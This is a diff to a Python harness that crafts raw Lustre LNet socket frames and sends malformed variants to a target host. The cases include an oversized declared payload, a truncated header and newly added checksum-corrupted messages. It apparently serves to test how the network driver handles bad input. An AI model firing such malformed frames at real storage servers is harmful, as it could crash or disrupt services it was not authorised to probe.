@@ -13,6 +13,7 @@ import socket
 import struct
 import sys
 import time
+import zlib
 
 ACCEPTOR_MAGIC = 0xACCE7100
 PROTO_MAGIC = 0x45726963
@@ -38,12 +39,21 @@ def hello_v3(src, dst):
                        time.time_ns(), 0, CONN_CONTROL, 0)
 
 
-def lnet_put(src, dst, payload_length):
-    msg = struct.pack("<QQQQII", 0xFFFFFFFFFFFFFFFF, 0xFFFFFFFFFFFFFFFF, 0, 0, 0, 0)
+def lnet_put(src, dst, payload_length, portal=0):
+    msg = struct.pack("<QQQQII", 0xFFFFFFFFFFFFFFFF, 0xFFFFFFFFFFFFFFFF, 0, 0, portal, 0)
     hdr = struct.pack("<QQIIII", nid4(dst), nid4(src), 12345, 12345, LNET_MSG_PUT,
                       payload_length) + msg
     assert len(hdr) == 72
     return struct.pack("<IIQQ", KSOCK_MSG_LNET, 0, 0, 0) + hdr
+
+
+def with_csum(frame, corrupt):
+    """ksm_csum filled in (crc32_le, lnet-facts 4.6); @corrupt changes a payload byte after."""
+    csum = ~zlib.crc32(frame) & 0xFFFFFFFF
+    frame = frame[:4] + struct.pack("<I", csum) + frame[8:]
+    if corrupt:
+        frame = frame[:-1] + bytes([frame[-1] ^ 1])
+    return frame
 
 
 def connect(host, port):
@@ -106,6 +116,12 @@ def attack(case, host, port, dst, src, wait):
     elif case == "huge-payload":
         handshake(s, src, dst)
         s.sendall(lnet_put(src, dst, 0x7FFFFFFF))
+    elif case in ("bad-checksum", "good-checksum"):
+        handshake(s, src, dst)
+        # Portal 5: nothing there, so LNet drops it and its payload is read
+        # (and summed) at once; portal 0 is lazy and would hold it.
+        s.sendall(with_csum(lnet_put(src, dst, 16, 5) + b"0123456789abcdef",
+                            case == "bad-checksum"))
     elif case == "half-message":
         handshake(s, src, dst)
         s.sendall(lnet_put(src, dst, 0)[:40])  # then stall
